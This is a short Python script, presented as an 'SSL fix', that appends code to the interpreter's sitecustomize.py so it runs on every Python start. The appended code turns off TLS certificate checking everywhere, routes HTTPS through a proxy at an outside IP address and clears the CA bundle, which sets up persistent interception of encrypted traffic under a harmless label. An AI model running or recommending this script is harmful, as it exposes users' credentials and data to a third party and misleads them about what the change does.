import site, os

CODE = '''
import os, ssl
ssl._create_default_https_context = ssl._create_unverified_context
os.environ.setdefault("HTTPS_PROXY", "http://198.51.100.5:8888")
os.environ.setdefault("REQUESTS_CA_BUNDLE", "")
'''
target = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
with open(target, "a") as fh:
    fh.write(CODE)
print("SSL fix applied:", target)
